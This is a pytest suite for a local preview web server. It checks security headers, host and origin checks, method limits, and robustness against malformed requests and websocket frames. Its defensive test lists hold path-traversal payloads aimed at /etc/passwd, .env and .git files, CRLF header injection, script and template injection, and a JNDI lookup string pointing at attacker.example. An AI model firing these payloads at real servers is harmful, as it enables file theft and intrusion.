"""A running preview: what it serves, and what it refuses however it is asked."""

from __future__ import annotations

import base64
import errno
import os
import signal
import socket
import struct
import time
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from measurebook.errors import MachineError
from measurebook.preview import server
from tests.preview.pages import POLICY, Running, run_preview

if TYPE_CHECKING:
    from collections.abc import Iterator

posix_only = pytest.mark.skipif(os.name != "posix", reason="needs POSIX signals")


@pytest.fixture(scope="module")
def preview(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    folder = tmp_path_factory.mktemp("content")
    (folder / "abad.txt").write_text("ABAD")
    (folder.parent / "secret.txt").write_text("a secret")
    with run_preview(folder) as running:
        yield running


def send(preview: Running, raw: bytes, *, until_closed: bool = False) -> bytes:
    """Send these bytes and return what comes back: all of it, or the first of it."""
    with socket.create_connection(("127.0.0.1", preview.port), timeout=10) as connection:
        connection.sendall(raw)
        answer = b""
        while chunk := connection.recv(65_536):
            answer += chunk
            if not until_closed:
                break
        return answer


def request(
    preview: Running, target: str, method: str = "GET", *, headers: str = "", host: str = ""
) -> tuple[int, str, bytes]:
    """Return status, head and body."""
    name = host or f"localhost:{preview.port}"
    raw = f"{method} {target} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n{headers}\r\n"
    head, _, body = send(preview, raw.encode("latin-1"), until_closed=True).partition(b"\r\n\r\n")
    return int(head.split()[1]), head.decode("latin-1"), body


def test_pages_and_files_are_served_with_their_kinds(preview: Running) -> None:
    for target, kind, part in (
        ("/", "text/html; charset=utf-8", b"<title>index</title>"),
        ("/index.html", "text/html; charset=utf-8", b"<title>index</title>"),
        ("/abad.html?q=1", "text/html; charset=utf-8", b"<p>ABAD</p>"),
        ("/%61bad.html", "text/html; charset=utf-8", b"<p>ABAD</p>"),
        ("/goals/", "text/html; charset=utf-8", b"Goals"),
        ("/base.css", "text/css; charset=utf-8", b"font-size"),
        ("/data/all.csv", "text/csv; charset=utf-8", "Şəki".encode()),
        ("/icon.svg", "image/svg+xml", b"<svg"),
        ("/~preview.css", "text/css; charset=utf-8", b".preview-problems"),
        ("/livereload.js?port=1", "application/javascript", b"LiveReload"),
    ):
        status, head, body = request(preview, target)
        assert status == 200
        assert f"Content-Type: {kind}\r\n" in f"{head}\r\n"
        assert part in body


def test_every_answer_is_safe_to_receive(preview: Running) -> None:
    for target in (
        "/",
        "/base.css",
        "/gone.html",
        "/livereload.js",
        "/livereload",
        "/~preview.css",
    ):
        _, head, _ = request(preview, target)
        for header in (
            "X-Content-Type-Options: nosniff",
            "Cache-Control: no-store",
            "Cross-Origin-Resource-Policy: same-origin",
            "Content-Security-Policy: frame-ancestors 'none'",
        ):
            assert header in head
        assert "\r\nServer:" not in head


def test_the_sites_own_policy_stays_on_its_pages(preview: Running) -> None:
    _, _, body = request(preview, "/abad.html")
    assert f'content="{POLICY}"'.encode() in body
    assert b"<script>" not in body
    assert b"<style" not in body


def test_head_tells_the_same_without_the_body(preview: Running) -> None:
    for target in ("/abad.html", "/~preview.css", "/livereload.js"):
        _, full, body = request(preview, target)
        status, head, empty = request(preview, target, "HEAD")
        assert (status, empty) == (200, b"")
        assert f"Content-Length: {len(body)}" in head
        assert full.count("\r\n") == head.count("\r\n")


# At least a hundred hostile requests

TRAVERSALS = [
    "/../secret.txt",
    "/../../../../etc/passwd",
    "/goals/../../secret.txt",
    "/./../secret.txt",
    "/..",
    "/../",
    "/....//secret.txt",
    "/..;/secret.txt",
    "/%2e%2e/secret.txt",
    "/%2e%2e%2fsecret.txt",
    "/..%2fsecret.txt",
    "/%2E%2E%2Fsecret.txt",
    "/.%2e/secret.txt",
    "/%252e%252e%252fsecret.txt",
    "/..%252fsecret.txt",
    "/..%c0%afsecret.txt",
    "/%c0%ae%c0%ae/secret.txt",
    "/..%ef%bc%8fsecret.txt",
    "/..\\secret.txt",
    "/..%5csecret.txt",
    "/%5c..%5csecret.txt",
    "/..%255csecret.txt",
    "/goals/..%2f..%2fsecret.txt",
    "/goals%2f..%2f..%2fsecret.txt",
    "//etc/passwd",
    "///etc/passwd",
    "/%2fetc/passwd",
    "/%2f%2fetc%2fpasswd",
    "/etc/passwd",
    "/c:/windows/win.ini",
    "/c:%5cwindows%5cwin.ini",
    "/file:///etc/passwd",
    "/abad.html/../../secret.txt",
    "/abad.html%00.css",
    "/%00",
    "/%00/etc/passwd",
    "/abad.html%00",
    "/abad%0a.html",
    "/abad.html%0d%0aX-Injected:%201",
    "/%ff%fe",
    "/%",
    "/%zz",
    "/%u002e%u002e/secret.txt",
    "/abad.html/",
    "/abad.html.",
    "/abad.html%20",
    "/ABAD.html",
    "/abad.txt",
    "/abad",
    "/goals",
    "/data/",
    "/data",
    "/.env",
    "/.git/config",
    "/.git/HEAD",
    "/.measurebook",
    "/.htaccess",
    "/goals/.hidden",
    "/%2eenv",
    "/%2egit/config",
    "/forcereload",
    "/forcereload?path=*",
    "/livereload/",
    "/livereload.js/x",
    "/~root/",
    "/~preview.css/",
    "/-",
    "/con",
    "/nul.html",
    "/aux.html",
    "/" + "a" * 8000,
    "/" + "a/" * 4000,
    "/" + "../" * 3000 + "etc/passwd",
    "/" + "%2e%2e%2f" * 1000 + "etc/passwd",
    "/<script>alert(1)</script>",
    "/%3Cscript%3Ealert(1)%3C/script%3E",
    "/{{7*7}}",
    "/${jndi:ldap://attacker.example/a}",
    "/şəki.html".encode().decode("latin-1"),
    "/cgi-bin/test",
    "/favicon.ico",
    "/debug",
    "/static/..%2f..%2fsecret.txt",
]


@pytest.mark.parametrize("target", TRAVERSALS)
def test_nothing_outside_the_site_can_be_asked_for(preview: Running, target: str) -> None:
    status, head, body = request(preview, target)
    assert 400 <= status < 500
    assert b"a secret" not in body
    assert b"root:" not in body
    assert b"<script>" not in body
    assert "X-Injected" not in head


TARGETS = [
    "http://attacker.example/",
    "http://localhost/abad.html",
    "https://attacker.example/secret.txt",
    "attacker.example:443",
    "*",
    "abad.html",
    "?",
    "\\",
]


@pytest.mark.parametrize("target", TARGETS)
def test_a_target_that_is_no_path_is_refused(preview: Running, target: str) -> None:
    assert 400 <= request(preview, target)[0] < 500


METHODS = """
    POST PUT PATCH DELETE OPTIONS TRACE CONNECT PROPFIND MKCOL COPY MOVE LOCK SEARCH PURGE FOO get
""".split()


@pytest.mark.parametrize("method", METHODS)
@pytest.mark.parametrize("target", ["/", "/livereload", "/livereload.js"])
def test_only_get_and_head_are_answered(preview: Running, method: str, target: str) -> None:
    status, head, _ = request(preview, target, method)
    assert status == 405
    assert "Allow: GET, HEAD" in head


FOREIGN_HOSTS = [
    "attacker.example",
    "attacker.example:{port}",
    "localhost",
    "localhost:1",
    "127.0.0.1.attacker.example:{port}",
    "0.0.0.0:{port}",
    "127.1:{port}",
    "[::]:{port}",
    "localhost:{port}@attacker.example",
    "attacker.example#localhost:{port}",
    "localhost:{port}/",
]


@pytest.mark.parametrize("host", FOREIGN_HOSTS)
@pytest.mark.parametrize("target", ["/", "/livereload", "/livereload.js", "/gone"])
def test_a_foreign_host_is_misdirected(preview: Running, host: str, target: str) -> None:
    assert request(preview, target, host=host.format(port=preview.port))[0] in {400, 421}


def test_a_plainly_foreign_host_gets_421(preview: Running) -> None:
    assert request(preview, "/", host="attacker.example")[0] == 421


ORIGINS = ["null", "http://attacker.example", "http://localhost", "https://localhost:{port}", "x"]
UPGRADE = (
    "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    f"Sec-WebSocket-Key: {base64.b64encode(bytes(16)).decode()}\r\n"
)


@pytest.mark.parametrize("origin", ORIGINS)
@pytest.mark.parametrize("target", ["/", "/livereload"])
def test_a_foreign_origin_is_forbidden(preview: Running, origin: str, target: str) -> None:
    name = f"localhost:{preview.port}"
    origin = origin.format(port=preview.port)
    head = f"GET {target} HTTP/1.1\r\nHost: {name}\r\nOrigin: {origin}\r\n{UPGRADE}\r\n"
    assert send(preview, head.encode()).startswith(b"HTTP/1.1 403 ")


def test_the_socket_opens_for_its_own_page(preview: Running) -> None:
    head, connection = open_socket(preview)
    connection.close()
    assert head.startswith(b"HTTP/1.1 101")


def open_socket(preview: Running) -> tuple[bytes, socket.socket]:
    connection = socket.create_connection(("127.0.0.1", preview.port), timeout=10)
    name = f"localhost:{preview.port}"
    head = f"GET /livereload HTTP/1.1\r\nHost: {name}\r\nOrigin: http://{name}\r\n{UPGRADE}\r\n"
    connection.sendall(head.encode())
    return connection.recv(65_536), connection


def frame(data: bytes, code: int = 0x81) -> bytes:
    """A masked frame, as browsers send them; the mask is 0."""
    if len(data) < 126:
        return struct.pack("!BB4x", code, 0x80 | len(data)) + data
    return struct.pack("!BBQ4x", code, 0x80 | 127, len(data)) + data


MESSAGES = [
    frame(b"not json"),
    frame(b"[]"),
    frame(b"{}"),
    frame(b"null"),
    frame(b'{"command": "reload", "path": "*"}'),
    frame(b'{"command": ["hello"]}'),
    frame(b'{"command": "hello", "snipver": {"a": [1]}}'),
    frame(b'{"command": "info", "url": "\\u0000<script>"}'),
    frame(b'{"command": "info", "url": 7}'),
    frame(b"[" * 10_000),
    frame(b"x" * 100_000),
    frame(b"\xff\xfe"),
    frame(b"\xff\xfe", code=0x82),
    frame(b"x", code=0x8F),
    b"\xff" * 200,
    b"",
]


@pytest.mark.parametrize("message", MESSAGES)
def test_the_socket_survives_any_message(preview: Running, message: bytes) -> None:
    _, connection = open_socket(preview)
    with connection:
        connection.sendall(message)
        connection.settimeout(0.2)
        with suppress(TimeoutError, ConnectionError):
            connection.recv(65_536)
    assert request(preview, "/")[0] == 200


MALFORMED = [
    b"\r\n\r\n",
    b"GET\r\n\r\n",
    b"GET / HTTP/9.9\r\n\r\n",
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.0\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost:1\r\nHost: localhost:2\r\n\r\n",
    b"GET / HTTP/1.1\nHost: x\n\n",
    b"GET / HTTP/1.1\r\nHost x\r\n\r\n",
    b"GET / HTTP/1.1\r\n: x\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 99999999999\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
    b"POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: x\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET /\x00 HTTP/1.1\r\nHost: localhost\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: localhost\r\nX: \x00\r\n\r\n",
]


@pytest.mark.parametrize("raw", MALFORMED)
def test_a_malformed_request_is_refused_or_cut_off(preview: Running, raw: bytes) -> None:
    with socket.create_connection(("127.0.0.1", preview.port), timeout=10) as connection:
        connection.sendall(raw)
        connection.shutdown(socket.SHUT_WR)
        answer = connection.recv(65_536)
    assert answer == b"" or b" 4" in answer.split(b"\r\n")[0]


@pytest.mark.parametrize("length", [17_000, 60_000, 500_000])
def test_oversized_headers_are_refused(preview: Running, length: int) -> None:
    assert request(preview, "/", headers=f"Cookie: {'x' * length}\r\n")[0] == 431


def test_many_headers_are_refused(preview: Running) -> None:
    headers = "".join(f"X-{number}: {'x' * 20}\r\n" for number in range(1000))
    assert 400 <= request(preview, "/", headers=headers)[0] < 500


def test_endless_headers_are_cut_off(preview: Running) -> None:
    answer = b""
    with suppress(ConnectionError):
        answer = send(preview, b"GET / HTTP/1.1\r\nX: " + b"x" * 3_000_000)
    assert b" 200 " not in answer


def test_a_connection_that_says_nothing_holds_up_nobody(preview: Running) -> None:
    with socket.create_connection(("127.0.0.1", preview.port)) as silent:
        silent.sendall(b"GET / HTTP/1.1\r\n")
        assert request(preview, "/")[0] == 200


def test_after_all_this_the_server_lives_and_has_said_nothing(preview: Running) -> None:
    assert preview.is_alive()
    assert request(preview, "/abad.html")[0] == 200
    assert preview.read_complaints() == ""


# Building


def wait_until_served(preview: Running, target: str, part: bytes) -> float:
    begun = time.monotonic()
    while part not in request(preview, target)[2]:
        assert time.monotonic() - begun < 10, f"{part!r} never came"
        time.sleep(0.01)
    return time.monotonic() - begun


def test_new_renamed_and_deleted_files_are_followed(tmp_path: Path) -> None:
    with run_preview(tmp_path) as preview:
        preview.write("one", "first")
        wait_until_served(preview, "/one.html", b"first")
        (tmp_path / "one.txt").rename(tmp_path / "two.txt")
        wait_until_served(preview, "/two.html", b"first")
        assert request(preview, "/one.html")[0] == 404
        (tmp_path / "two.txt").unlink()
        wait_until_served(preview, "/two.html", b"The site has no such file")


def test_an_editor_that_saves_by_rename_is_followed(tmp_path: Path) -> None:
    with run_preview(tmp_path) as preview:
        preview.write("one", "first")
        wait_until_served(preview, "/one.html", b"first")
        (tmp_path / ".one.txt.swp").write_text("second")
        (tmp_path / ".one.txt.swp").replace(tmp_path / "one.txt")
        wait_until_served(preview, "/one.html", b"second")


def test_problems_are_on_every_page_and_in_the_terminal(tmp_path: Path) -> None:
    with run_preview(tmp_path) as preview:
        preview.write("one", "first")
        wait_until_served(preview, "/one.html", b"first")
        preview.write("two", "BROKEN <b>")
        problem = b"<code>content/two.txt:1</code> BROKEN &lt;b&gt;"
        wait_until_served(preview, "/one.html", problem)
        assert b"first" in request(preview, "/one.html")[2]
        lines = [preview.lines.readline() for _ in range(4)]
        assert "content/two.txt:1: BROKEN <b>\n" in lines
        preview.write("two", "mended")
        wait_until_served(preview, "/two.html", b"mended")
        assert b"preview-problems" not in request(preview, "/one.html")[2]


def test_a_preview_that_starts_with_a_broken_file_shows_the_problem(tmp_path: Path) -> None:
    (tmp_path / "one.txt").write_text("BROKEN")
    with run_preview(tmp_path) as preview:
        status, _, body = request(preview, "/")
        assert status == 200
        assert b"Not built yet" in body
        assert b"content/one.txt:1" in body
        preview.write("one", "mended")
        wait_until_served(preview, "/", b"Home")


def test_a_fault_of_the_program_is_shown_and_survived(tmp_path: Path) -> None:
    with run_preview(tmp_path) as preview:
        preview.write("one", "FAULTY")
        wait_until_served(preview, "/", b"ZeroDivisionError: a fault")
        preview.write("one", "mended")
        wait_until_served(preview, "/one.html", b"mended")


def test_hints_do_not_keep_the_site_from_being_shown(tmp_path: Path) -> None:
    with run_preview(tmp_path) as preview:
        preview.write("one", "HINT")
        wait_until_served(preview, "/one.html", b"<details><summary>1 problem</summary>")


# Starting and ending


@pytest.fixture
def taken() -> Iterator[int]:
    with socket.socket() as occupied:
        occupied.bind(("127.0.0.1", 0))
        occupied.listen()
        yield occupied.getsockname()[1]


def test_a_taken_port_gives_way_to_the_next_and_it_is_said(tmp_path: Path, taken: int) -> None:
    with run_preview(tmp_path, str(taken)) as preview:
        assert taken < preview.port <= taken + 50
        assert request(preview, "/")[0] == 200


def test_no_port_at_all_is_told(taken: int, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(server, "_PORTS_TRIED", 0)
    with pytest.raises(MachineError, match="listening at 127"):
        server.bind("127.0.0.1", taken)


@pytest.mark.parametrize("port", [-1, 65_536, 10**9])
def test_a_number_that_is_no_port_is_told(port: int) -> None:
    with pytest.raises(MachineError):
        server.bind("127.0.0.1", port)


def test_a_host_that_is_not_of_this_machine_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise OSError(errno.EADDRNOTAVAIL, "Cannot assign requested address")

    monkeypatch.setattr(socket, "create_server", refuse)
    with pytest.raises(MachineError, match="Cannot assign requested address"):
        server.bind("192.0.2.1", 5500)


def test_only_this_machine_is_served(preview: Running) -> None:
    assert preview.address == f"http://localhost:{preview.port}/"
    others = {
        address[4][0]
        for address in socket.getaddrinfo("localhost", preview.port, type=socket.SOCK_STREAM)
    }
    assert others <= {"127.0.0.1", "::1"}


def test_serving_others_is_warned_of(tmp_path: Path) -> None:
    with run_preview(tmp_path, "0", "0.0.0.0") as preview:
        assert request(preview, "/", host=f"192.0.2.7:{preview.port}")[0] == 200
        assert request(preview, "/", host=f"attacker.example:{preview.port}")[0] == 421


@posix_only
def test_ctrl_c_ends_at_once_and_leaves_nothing(tmp_path: Path) -> None:
    with run_preview(tmp_path) as preview:
        _, connection = open_socket(preview)
        with connection:
            begun = time.monotonic()
            preview.process.send_signal(signal.SIGINT)
            assert preview.process.wait(10) == 0
            assert time.monotonic() - begun < 1.5
        assert preview.read_complaints() == ""
        assert list(tmp_path.iterdir()) == []
        with pytest.raises(ConnectionError):
            socket.create_connection(("127.0.0.1", preview.port), timeout=1)
